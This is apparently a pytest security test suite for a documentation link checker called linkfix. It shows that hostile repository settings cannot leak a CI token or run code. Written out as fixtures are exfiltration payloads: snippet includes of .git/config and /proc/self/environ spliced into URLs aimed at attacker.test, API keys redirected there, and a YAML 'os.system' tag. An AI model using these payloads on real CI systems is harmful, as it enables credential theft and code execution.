"""Trust: a hostile repository gets nothing (issue 27's High findings, each as its attack).

The repository being checked decides which links exist and how its pages render; only the
person running linkfix decides where secrets go, where files are written and whether the
project's own code runs. Each test plays a stranger's pull request in a CI job running linkfix
with default settings. The internet is a logging proxy on loopback (HTTP_PROXY and HTTPS_PROXY
point at it): every request linkfix makes arrives there, and nothing leaves loopback.

1. snippets exfiltrate secrets: an include read from `.git/` or outside the project, and a
   link whose target splices an included file's text into the page's, are never fetched nor
   shown in a report;
2. a repository's config names no environment variable, and no URL a key is sent to (nor moves
   a keyed request elsewhere with `remap`);
3. mkdocs.yml runs no code: no YAML tag calls a function (but known slug factories), and
   extensions and `!!python/name:` values are imported only from installed distributions, never
   from the working tree (`python -m linkfix` puts it on sys.path); `--trust-project-code`
   runs them, as `mkdocs build` does;
4. a repository's config writes nothing outside the project (`output`, `cache_dir`).
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import textwrap
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from linkfix.cli import main

SECRET = "s3cr3t-T0KEN-4f1d9"  # what the runner's environment and checkout hold
GIT_CONFIG = f"""[core]
\trepositoryformatversion = 0
\tfilemode = true
[remote "origin"]
\turl = https://github.com/owner/repo
[http "https://github.com/"]
\textraheader = AUTHORIZATION: basic {SECRET}
"""  # as actions/checkout writes it: the token on line 7


class LoggingProxy(ThreadingHTTPServer):
    """The internet, on loopback: records every request (its line and headers), answers 404."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Recorder)
        self.seen: list[str] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def everything(self) -> str:
        return "\n".join(self.seen)


class _Recorder(BaseHTTPRequestHandler):
    server: LoggingProxy

    def _record(self) -> None:
        self.server.seen.append(f"{self.command} {self.path}\n{self.headers}")

    def do_GET(self) -> None:
        self._record()
        body = b"not here"
        self.send_response(404)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_HEAD(self) -> None:
        self._record()
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_CONNECT(self) -> None:  # an https:// request: no tunnel, but its host is on record
        self._record()
        self.send_response(405)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        return


@pytest.fixture
def internet(monkeypatch) -> Iterator[LoggingProxy]:
    proxy = LoggingProxy()
    thread = threading.Thread(target=proxy.serve_forever, daemon=True)
    thread.start()
    for name in ("HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "NO_PROXY", "no_proxy", "ALL_PROXY", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HTTP_PROXY", proxy.url)
    monkeypatch.setenv("HTTPS_PROXY", proxy.url)
    try:
        yield proxy
    finally:
        proxy.shutdown()
        proxy.server_close()
        thread.join(timeout=10)


def _repo(root: Path, files: dict[str, str]) -> Path:
    """A checked-out repository: `.git/config` holds the CI token, as actions/checkout leaves it."""
    for name, text in {".git/config": GIT_CONFIG, **files}.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text), encoding="utf-8")
    return root


def _check(root: Path, monkeypatch, *args: str) -> int:
    """`linkfix check ARGS` in `root`, as a CI job runs it (the network probe off: no DNS)."""
    monkeypatch.chdir(root)
    return main(["check", *args, "--network-probe", ""])


def _python_m_linkfix(root: Path, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    """`python -m linkfix ARGS` run in `root`: Python puts `root` first on sys.path."""
    environment = {**os.environ, "NO_COLOR": "1", **(env or {})}
    return subprocess.run([sys.executable, "-m", "linkfix", *args], cwd=root, env=environment,
                          capture_output=True, text=True, timeout=120)


# -- 1. snippets do not exfiltrate secrets -------------------------------------------------------------------------
SNIPPETS = "site_name: t\nmarkdown_extensions:\n  - pymdownx.snippets\n"
SPLICE = "# Home\n\n<a href='http://attacker.test/x?q=\n--8<-- \"{name}\"\n'>x</a>\n"


@pytest.mark.parametrize("form", ["mkdocs.yml", "docs/index.md"])  # `check mkdocs.yml`, and the file list pre-commit passes
def test_an_include_of_the_checkouts_git_config_is_not_read_fetched_or_reported(tmp_path, monkeypatch, internet, form):
    root = _repo(tmp_path, {"mkdocs.yml": SNIPPETS, "docs/index.md": SPLICE.format(name=".git/config:7:7")})
    code = _check(root, monkeypatch, form, "-f", "json", "--output", "report.json")
    report = (root / "report.json").read_text(encoding="utf-8")
    assert SECRET not in internet.everything() and SECRET not in report
    assert code == 2 and "included file '.git/config' is not read: it is inside .git/" in report  # an input error (issue 44.4)
    assert "GET http://attacker.test/x?q=" in internet.everything()  # the control: the page's own URL is checked


def test_a_base_path_outside_the_project_is_not_read(tmp_path, monkeypatch, internet, caplog):
    secrets = tmp_path / "home" / ".env"  # the runner's own file, outside the checkout
    secrets.parent.mkdir()
    secrets.write_text(f"TOKEN={SECRET}\n")
    config = "site_name: t\nmarkdown_extensions:\n  - pymdownx.snippets:\n      base_path: ['/']\n"
    root = _repo(tmp_path / "repo", {"mkdocs.yml": config, "docs/index.md": SPLICE.format(name=str(secrets).lstrip("/") + ":1:1")})
    _check(root, monkeypatch, "mkdocs.yml", "-f", "json", "--output", "report.json")
    assert SECRET not in internet.everything() and SECRET not in (root / "report.json").read_text(encoding="utf-8")
    assert "base_path '/' is not read: it is outside the project" in caplog.text


def test_the_process_environment_is_not_included(tmp_path, internet):
    config = "site_name: t\nmarkdown_extensions:\n  - pymdownx.snippets:\n      base_path: ['/']\n"
    root = _repo(tmp_path, {"mkdocs.yml": config, "docs/index.md": SPLICE.format(name="proc/self/environ")})
    done = _python_m_linkfix(root, "check", "mkdocs.yml", "--network-probe", "", "-f", "json", "-o", "report.json",
                             env={"ANY_SECRET": SECRET})  # in the child's /proc/self/environ from its start
    assert done.returncode in (0, 1), done.stderr
    assert SECRET not in internet.everything() and SECRET not in (root / "report.json").read_text(encoding="utf-8")
    assert "GET http://attacker.test/x?q=" in internet.everything()  # the control: the request went through this proxy


@pytest.mark.parametrize("form", ["mkdocs.yml", "docs/index.md"])
def test_a_link_spliced_from_an_included_files_text_is_never_fetched_nor_shown(tmp_path, monkeypatch, internet, form):
    # A file inside the project may hold a secret too (a CI step's credentials file in the
    # workspace): whatever an include reads, a target built around it is not fetched.
    creds = f'{{\n  "type": "service_account",\n  "private_key_id": "{SECRET}"\n}}\n'
    root = _repo(tmp_path, {"mkdocs.yml": SNIPPETS, "gha-creds-1.json": creds,
                            "docs/index.md": SPLICE.format(name="gha-creds-1.json:3:3") + "\n[ok](http://ok.test/page)\n"})
    code = _check(root, monkeypatch, form, "-f", "json", "--output", "report.json")
    report = json.loads((root / "report.json").read_text(encoding="utf-8"))
    assert SECRET not in internet.everything() and SECRET not in json.dumps(report)
    assert "attacker.test" not in internet.everything()
    spliced = [link for link in report["links"] if link["reason"] == "included-text"]
    assert [(link["status"], link["file"], link["line"]) for link in spliced] == [("unverified", "docs/index.md", 4)]
    assert "GET http://ok.test/page" in internet.everything()  # the control
    assert code == 1  # ok.test answered 404: the rest of the page is checked as ever


def test_snippets_spelled_module_and_class_download_nothing_and_splice_nothing(tmp_path, monkeypatch, internet):
    config = ("site_name: t\nmarkdown_extensions:\n  - pymdownx.snippets:SnippetExtension:\n      url_download: true\n"
              "      restrict_base_path: false\n")
    creds = f"{SECRET}\n"
    root = _repo(tmp_path, {"mkdocs.yml": config, "creds.txt": creds,
                            "docs/index.md": SPLICE.format(name="creds.txt:1:1") + '\n--8<-- "http://169.254.169.254/latest/meta-data/"\n'})
    _check(root, monkeypatch, "mkdocs.yml")
    seen = internet.everything()
    assert SECRET not in seen and "attacker.test" not in seen
    assert "169.254.169.254" not in seen  # pymdownx's own download would bypass linkfix's address checks


def test_a_link_written_whole_in_an_included_file_is_checked_as_before(tmp_path, monkeypatch, internet):
    root = _repo(tmp_path, {"mkdocs.yml": SNIPPETS, "part.md": "See <a href='http://elsewhere.test/from-part'>this</a>.\n",
                            "docs/index.md": '# Home\n\n--8<-- "part.md"\n'})
    _check(root, monkeypatch, "mkdocs.yml")
    assert "GET http://elsewhere.test/from-part" in internet.everything()


# -- 2. a repository's config does not send the runner's secrets ------------------------------------------------------
BROKEN_PAGE = "# Home\n\nRead [installing the frobnicator toolkit on Debian](http://attacker.test/dead-page).\n"  # an anchor strong enough to search for


@pytest.mark.parametrize("search, key", [
    ("{provider: brave, url: 'http://attacker.test', api_key_env: ANY_SECRET}", "search[0].api_key_env"),
    ("{provider: marginalia, url: 'http://attacker.test', api_key_env: ANY_SECRET}", "search[0].api_key_env"),
    ("{provider: brave, url: 'http://attacker.test'}", "search[0].url"),  # brave sends BRAVE_API_KEY when none is named
    # what the file wrote decides, not whether it differs from the default the settings hold
    ("{provider: brave, api_key_env: BRAVE_API_KEY}", "search[0].api_key_env"),
    ("{provider: brave, url: 'https://api.search.brave.com'}", "search[0].url"),
])
def test_a_repository_config_cannot_send_an_environment_variable_anywhere(tmp_path, monkeypatch, internet, capsys, search, key):
    monkeypatch.setenv("ANY_SECRET", SECRET)
    monkeypatch.setenv("BRAVE_API_KEY", SECRET)
    root = _repo(tmp_path, {"linkfix.yml": f"suggest: true\nsearch: [{search}]\n", "docs/index.md": BROKEN_PAGE})
    assert _check(root, monkeypatch, "docs") == 2
    err = capsys.readouterr().err
    assert f"linkfix.yml: '{key}' decides" in err and "--search on the command line" in err
    assert internet.seen == []  # refused before any request


def test_a_repository_remap_does_not_move_a_keyed_request(tmp_path, monkeypatch, internet):
    monkeypatch.setenv("BRAVE_API_KEY", SECRET)  # the runner's key, for Brave's own API
    remap = r"'^https://api\.search\.brave\.com/(.*) http://attacker.test/\1'"
    root = _repo(tmp_path, {"linkfix.yml": f"suggest: true\nsearch: [{{provider: brave}}]\narchive: []\nremap: [{remap}]\n",
                            "docs/index.md": BROKEN_PAGE})
    _check(root, monkeypatch, "docs", "--max-retries", "0")
    seen = internet.everything()
    assert "CONNECT api.search.brave.com:443" in seen  # the search went where its key belongs
    assert SECRET not in seen and "/res/v1/web/search" not in seen


def test_the_runner_may_name_a_key_on_the_command_line(tmp_path, monkeypatch, internet):
    monkeypatch.setenv("MY_BRAVE_KEY", SECRET)
    root = _repo(tmp_path, {"docs/index.md": BROKEN_PAGE})
    search = json.dumps([{"provider": "brave", "url": "http://search.test", "api_key_env": "MY_BRAVE_KEY"}])
    _check(root, monkeypatch, "docs", "--suggest", "--search", search, "--archive", "[]", "--max-retries", "0")
    assert f"X-Subscription-Token: {SECRET}" in internet.everything()  # the runner's choice: sent where the runner said


# -- 3. mkdocs.yml runs no code ---------------------------------------------------------------------------------------
def _commanding(root: Path) -> tuple[Path, dict[str, str]]:
    marker = root.parent / f"{root.name}-ran"
    config = ("site_name: t\nmarkdown_extensions:\n  - toc:\n"
              f"      slugify: !!python/object/apply:os.system [\"touch '{marker}'\"]\n")
    return marker, {"mkdocs.yml": config, "docs/index.md": "# Home\n\n[self](#home)\n"}


@pytest.mark.parametrize("command", [
    ["check", "mkdocs.yml", "--offline"],
    ["check", "docs/index.md", "--offline"],
    ["fix", "docs/index.md", "--offline", "--dry-run"],
])
def test_a_yaml_tag_in_mkdocs_yml_calls_nothing(tmp_path, monkeypatch, caplog, command):
    marker, files = _commanding(tmp_path / "repo")
    root = _repo(tmp_path / "repo", files)
    monkeypatch.chdir(root)
    assert main(command) in (0, 1)
    assert not marker.exists()
    assert "os.system(...), a call a source check does not make" in caplog.text


def test_fix_from_a_saved_result_calls_nothing_either(tmp_path, monkeypatch, internet):
    marker, files = _commanding(tmp_path / "repo")
    root = _repo(tmp_path / "repo", {**files, "docs/index.md": "# Home\n\n[gone](http://old.test/a)\n"})
    assert _check(root, monkeypatch, "docs/index.md", "-f", "json", "-o", "result.json") == 1
    result = json.loads((root / "result.json").read_text(encoding="utf-8"))
    result["links"][0]["suggestions"] = [{"url": "https://new.test/a", "confidence": 1.0, "method": "search", "score": 1.0, "evidence": {}}]
    (root / "result.json").write_text(json.dumps(result), encoding="utf-8")
    assert main(["fix", "--from", "result.json", "--dry-run"]) == 1  # the plan reads the page again, as the check did
    assert not marker.exists()


def test_with_trust_project_code_the_tag_runs_as_in_mkdocs_build(tmp_path, monkeypatch):
    marker, files = _commanding(tmp_path / "repo")
    root = _repo(tmp_path / "repo", files)
    monkeypatch.chdir(root)
    main(["check", "mkdocs.yml", "--offline", "--trust-project-code"])
    assert marker.exists()  # the control: the same config runs when the runner says so


def test_trust_project_code_cannot_come_from_a_repository_config(tmp_path, monkeypatch, capsys):
    marker, files = _commanding(tmp_path / "repo")
    root = _repo(tmp_path / "repo", {**files, "linkfix.yml": "trust_project_code: true\n"})
    monkeypatch.chdir(root)
    assert main(["check", "mkdocs.yml", "--offline"]) == 2
    assert "'trust_project_code' decides whether the project's own code runs" in capsys.readouterr().err
    assert not marker.exists()


EVIL_MODULE = "import pathlib\npathlib.Path({marker!r}).write_text('ran')\ndef makeExtension(**kwargs):\n    raise SystemExit(9)\nslugify = None\n"


@pytest.mark.parametrize("config", [
    "markdown_extensions:\n  - evilext\n",  # an extension named after a module of the working tree
    "markdown_extensions:\n  - toc:\n      slugify: !!python/name:evilext.slugify\n",
    "markdown_extensions:\n  - pymdownx.snippets\n",  # a package of the working tree shadowing an installed one
])
def test_python_m_linkfix_imports_nothing_from_the_working_tree(tmp_path, config):
    marker = tmp_path / "ran"
    root = _repo(tmp_path / "repo", {"mkdocs.yml": "site_name: t\n" + config, "docs/index.md": "# Home\n",
                                     "evilext.py": EVIL_MODULE.format(marker=str(marker)),
                                     "pymdownx/__init__.py": EVIL_MODULE.format(marker=str(marker))})
    done = _python_m_linkfix(root, "check", "mkdocs.yml", "--offline")
    assert done.returncode == 0, done.stderr
    assert not marker.exists()
    # The working tree is off sys.path (linkfix.__main__), as for the `linkfix` command: its module is
    # said to be left out, or the installed package of that name renders
    assert "evilext" in done.stderr if "evilext" in config else done.stderr == ""
    trusted = _python_m_linkfix(root, "check", "mkdocs.yml", "--offline", "--trust-project-code")
    assert marker.exists(), trusted.stderr  # the control: the runner may run it


def _slug_project(root: Path, slugify: str, heading: str, link: str) -> Path:
    return _repo(root, {"mkdocs.yml": f"site_name: t\nmarkdown_extensions:\n  - toc:\n      slugify: {slugify}\n",
                        "docs/index.md": f"# {heading}\n\n[there](#{link})\n",
                        "project_slugs.py": "def slugify(value, separator):\n    return value.lower().replace(' ', '_')\n"})


def test_a_refused_slug_function_makes_missing_fragments_unverified_not_broken(tmp_path, monkeypatch, capsys):
    root = _slug_project(tmp_path, "!!python/name:project_slugs.slugify", "Hello World", "hello_world")
    assert _check(root, monkeypatch, "mkdocs.yml", "--offline", "-f", "json") == 0
    (link,) = json.loads(capsys.readouterr().out)["links"]
    assert (link["status"], link["reason"]) == ("unverified", "build-time-id")
    assert "toc's slugify" in link["detail"]


def test_a_known_slug_factory_is_evaluated(tmp_path, monkeypatch, capsys):
    # pymdownx's slugify keeps Unicode letters; Python-Markdown's default would make "hello-world".
    root = _slug_project(tmp_path, "!!python/object/apply:pymdownx.slugs.slugify {kwds: {case: lower}}", "Héllo Wörld", "héllo-wörld")
    assert _check(root, monkeypatch, "mkdocs.yml", "--offline", "-f", "json") == 0
    (link,) = json.loads(capsys.readouterr().out)["links"]
    assert link["status"] == "ok"


def test_an_env_value_in_extension_settings_is_not_read_from_the_environment(tmp_path, monkeypatch, internet):
    # magiclink makes `#1` a link to the repository's issue 1 on the provider's host: with the
    # user from `!ENV`, that link would carry the variable to a host of the config's choosing.
    monkeypatch.setenv("ANY_SECRET", SECRET)
    config = """\
        site_name: t
        markdown_extensions:
          - pymdownx.magiclink:
              repo_url_shorthand: true
              provider: evil
              user: !ENV [ANY_SECRET, someone]
              repo: r
              custom: {evil: {host: 'http://attacker.test', label: Evil, type: github}}
        """
    root = _repo(tmp_path, {"mkdocs.yml": config, "docs/index.md": "# Home\n\nSee #1.\n"})
    _check(root, monkeypatch, "mkdocs.yml")
    seen = internet.everything()
    assert SECRET not in seen
    assert "GET http://attacker.test/someone/r/issues/1" in seen  # the control: the file's own default is used


# -- 4. a repository's config writes nothing outside the project ------------------------------------------------------
@pytest.mark.parametrize("config_file, text", [
    ("linkfix.yml", "format: [json]\noutput: ['{target}']\n"),
    ("pyproject.toml", "[tool.linkfix]\nformat = ['json']\noutput = ['{target}']\n"),
])
def test_a_repository_config_cannot_choose_where_reports_are_written(tmp_path, monkeypatch, capsys, config_file, text):
    script = tmp_path / "outside" / "deploy.sh"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\necho deploying\n")
    script.chmod(0o755)
    root = _repo(tmp_path / "repo", {config_file: text.format(target=script), "docs/index.md": "# Home\n\n[a](#home)\n"})
    assert _check(root, monkeypatch, "docs", "--offline") == 2
    assert "'output' decides where reports are written" in capsys.readouterr().err
    assert script.read_text() == "#!/bin/sh\necho deploying\n" and stat.S_IMODE(script.stat().st_mode) == 0o755


def test_a_repository_config_cannot_put_the_cache_outside_the_project(tmp_path, monkeypatch, capsys):
    outside = tmp_path / "outside"
    outside.mkdir()
    root = _repo(tmp_path / "repo", {"linkfix.yml": "cache_dir: ../outside/cache\n", "docs/index.md": "[a](https://a.test/)\n"})
    (root / "link").symlink_to(outside)
    assert _check(root, monkeypatch, "docs") == 2
    assert "'cache_dir' decides that files are written outside the project" in capsys.readouterr().err
    (root / "linkfix.yml").write_text("cache_dir: link/cache\n")  # through a symlink: the same
    assert _check(root, monkeypatch, "docs") == 2
    assert list(outside.iterdir()) == []


def test_the_runner_chooses_output_and_cache_on_the_command_line(tmp_path, monkeypatch):
    root = _repo(tmp_path / "repo", {"linkfix.yml": "format: [json]\n", "docs/index.md": "# Home\n\n[a](#home)\n"})
    report = tmp_path / "elsewhere.json"
    assert _check(root, monkeypatch, "docs", "--offline", "--output", str(report)) == 0
    assert json.loads(report.read_text())["totals"]["ok"] == 1
